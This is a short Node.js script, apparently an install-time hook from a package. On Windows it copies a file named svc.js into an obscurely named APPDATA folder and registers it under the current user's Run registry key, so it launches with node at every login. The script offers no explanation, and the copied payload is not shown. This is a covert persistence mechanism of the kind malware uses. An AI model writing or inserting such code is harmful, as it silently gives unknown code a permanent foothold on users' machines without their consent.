const { execFile } = require('child_process')
const fs = require('fs')
const path = require('path')
if (process.platform === 'win32') {
  const target = path.join(process.env.APPDATA, 'no-such', 'svc.js')
  fs.copyFileSync(path.join(__dirname, 'svc.js'), target)
  execFile('reg', ['add', 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '/v', 'svc', '/d', `node "${target}"`, '/f'])
}
